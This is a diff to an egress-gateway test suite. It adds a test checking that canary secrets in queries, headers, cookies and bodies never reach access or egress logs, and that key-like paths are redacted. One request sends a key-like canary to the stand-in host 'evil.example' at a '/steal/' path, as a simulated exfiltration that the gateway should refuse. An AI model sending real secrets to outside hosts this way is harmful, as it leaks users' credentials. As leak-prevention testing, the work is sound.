@@ -6,6 +6,8 @@ import { text } from 'node:stream/consumers';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { silentLogger, systemClock } from '#lib';
 import { rotateAccessLogs } from '../../src/egress/access-logs.ts';
+import { parseAccess, parseEgress } from '../../src/telemetry/recorder/lines.ts';
+import { recordOfAccess, recordOfEgress } from '../../src/telemetry/recorder/record.ts';
 import { eventually } from './harness.ts';
 import { aiRoute, CHAT, denialOf, EgressLab, GATEWAY, JSON_BODY, KEY, OPENAI, PAIR } from './support/egress-lab.ts';
 import type { StepAnswer } from './support/sandbox-client.ts';
@@ -367,6 +369,37 @@ test('Envoy killed: said in the records, and it serves again with the same confi
   process.kill(await lab.envoyPid(), 'SIGKILL');
   await eventually('the record', async () => (await lab.egressLines()).find(({ event, gateway }) => event === 'gateway-died' && gateway === GATEWAY));
   await eventually('it serves again', async () => ((await askOnce(address)).status === 200 ? true : undefined));
+});
+
+test('no query, header or body is in a line of a record, let through or refused, and no key of a path or name in a record', async () => {
+  const [admitted, denied] = [await lab.addressOf(OPENAI), await lab.addressOf('evil.example')];
+  const key = 'sk-proj-inThePath00Canary';
+  const secrets = ['query', 'authorization', 'cookie', 'own-header', 'referer', 'body'].map((place) => `Canary-of-the-${place}`);
+  const [query, authorization, cookie, own, referer, said] = secrets as [string, string, string, string, string, string];
+  const headers = { ...JSON_BODY, authorization: `Bearer ${authorization}`, cookie: `session=${cookie}`, 'x-secret': own, referer: `https://x/?t=${referer}` };
+  const body = JSON.stringify({ ...(JSON.parse(CHAT) as object), messages: [{ role: 'user', content: said }] });
+  const send = (sni: string, path: string) =>
+    lab.inSandbox({ do: 'https', address: sni === OPENAI ? admitted : denied, sni, method: 'POST', path, headers, body, ca: lab.rootPem });
+  expect(await send(OPENAI, `/v1/chat/completions?key=${query}`)).toMatchObject({ status: 200 });
+  for (const [sni, path] of [
+    [OPENAI, `/v1/files/${key}?key=${query}`],
+    ['evil.example', `/steal/${key}?key=${query}`],
+  ] as const) {
+    const answer = await send(sni, path);
+    expect(answer.status).toBe(403);
+    const line = await lab.lineOf(denialOf(answer)['decision']!);
+    // The canary: a record made of this line would have it.
+    expect(line.path).toContain(key);
+  }
+  const access = await lab.accessLines();
+  const egress = await lab.egressLines();
+  for (const secret of secrets) expect(JSON.stringify([access, egress])).not.toContain(secret);
+  const records = [
+    ...access.map((line) => recordOfAccess(parseAccess(JSON.stringify(line))!, undefined, '0')),
+    ...egress.map((line) => recordOfEgress(parseEgress(JSON.stringify(line))!, undefined, '0')),
+  ];
+  expect(records.filter(({ path }) => path.includes('[redacted]')).length).toBeGreaterThanOrEqual(3);
+  expect(JSON.stringify(records)).not.toMatch(/Canary/i);
 });
 
 test('an access log is put aside without losing a line', async () => {
